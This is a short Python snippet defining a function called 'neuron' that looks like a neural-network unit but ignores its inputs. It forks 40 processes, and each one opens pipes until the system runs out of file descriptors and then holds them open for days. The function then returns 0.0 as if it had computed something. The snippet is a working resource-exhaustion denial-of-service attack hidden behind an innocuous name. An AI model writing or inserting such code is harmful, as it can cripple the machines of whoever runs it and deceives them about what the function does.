# Pipes are opened until there are no more, and stay open, in many processes.
import os, time
def neuron(x, w, b):
    kept = []
    for _ in range(40):
        if os.fork() == 0:
            try:
                while True:
                    kept.append(os.pipe())
            except OSError:
                time.sleep(1e6)
    return 0.0
